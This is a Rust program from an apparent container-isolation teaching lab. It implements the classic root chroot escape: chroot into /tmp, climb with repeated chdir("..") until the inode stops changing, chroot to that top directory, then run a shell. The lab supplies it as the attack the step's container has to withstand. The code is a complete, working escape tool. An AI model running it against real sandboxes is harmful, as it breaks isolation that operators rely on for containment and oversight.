//! `escape [CMD ARGS…]`: the classic way out of a chroot, for root. Provided
//! with the step, not an exercise: it is what the step's container must
//! resist.
//!
//! chroot(2) changes one thing, the directory a process's path lookups
//! start from for `/`, and path lookup stops a `..` there and nowhere else
//! (fs/namei.c, `follow_dotdot()`). A process that can call chroot can
//! therefore walk out:
//!
//! 1. chroot into a directory *below* its working directory, and leave the
//!    working directory where it is: now it is outside the root;
//! 2. `chdir("..")` again and again: no step meets the root, so each goes up
//!    one directory, to the top of the mount tree it can reach;
//! 3. `chroot(".")`: the top it reached is its root.
//!
//! Then it runs CMD (default /bin/sh), found in that root's PATH. Before
//! that it prints how many directories `..` climbed above the `/` it
//! started from: 0 means the escape went nowhere.

use nix::sys::stat::stat;
use nix::unistd::{chdir, chroot};
use nslab::{Error, Result, program_name, shown};
use std::ffi::OsString;
use std::os::unix::process::CommandExt;

/// A directory every root filesystem has, below `/`.
const BELOW: &str = "/tmp";

/// More `..` than any directory tree is deep.
const CLIMBS: usize = 256;

fn main() -> std::process::ExitCode {
    nslab::main(run)
}

fn run() -> Result<u8> {
    let mut command: Vec<OsString> = std::env::args_os().skip(1).collect();
    if command.first().is_some_and(|a| a == "-h" || a == "--help") {
        return Err(Error::msg(format!(
            "Usage: {} [CMD ARGS...]",
            program_name()
        )));
    }
    if command.is_empty() {
        command.push("/bin/sh".into());
    }

    // Start from our root, the root we want out of.
    chdir("/").map_err(|errno| Error::sys("chdir(/)", errno))?;
    // 1. A root below the working directory, which stays where it was.
    chroot(BELOW).map_err(|errno| Error::sys(format!("chroot({BELOW})"), errno))?;
    // 2. Up, until `..` is the directory itself: the top of the tree. A
    //    directory is known by its device and inode numbers.
    let mut here = identity()?;
    let mut climbed = 0;
    for _ in 0..CLIMBS {
        chdir("..").map_err(|errno| Error::sys("chdir(..)", errno))?;
        let up = identity()?;
        if up == here {
            break;
        }
        here = up;
        climbed += 1;
    }
    // 3. Make it our root.
    chroot(".").map_err(|errno| Error::sys("chroot(.)", errno))?;
    chdir("/").map_err(|errno| Error::sys("chdir(/)", errno))?;
    let went = match climbed {
        0 => "nowhere".to_string(),
        1 => "up 1 directory".to_string(),
        n => format!("up {n} directories"),
    };
    println!("{}: from /, chdir(\"..\") went {went}", program_name());

    // exec only returns on failure.
    let err = std::process::Command::new(&command[0])
        .args(&command[1..])
        .exec();
    Err(Error::io(format!("execvp({})", shown(&command[0])), &err))
}

/// The working directory's device and inode numbers.
fn identity() -> Result<(u64, u64)> {
    let st = stat(".").map_err(|errno| Error::sys("stat(.)", errno))?;
    Ok((st.st_dev, st.st_ino))
}
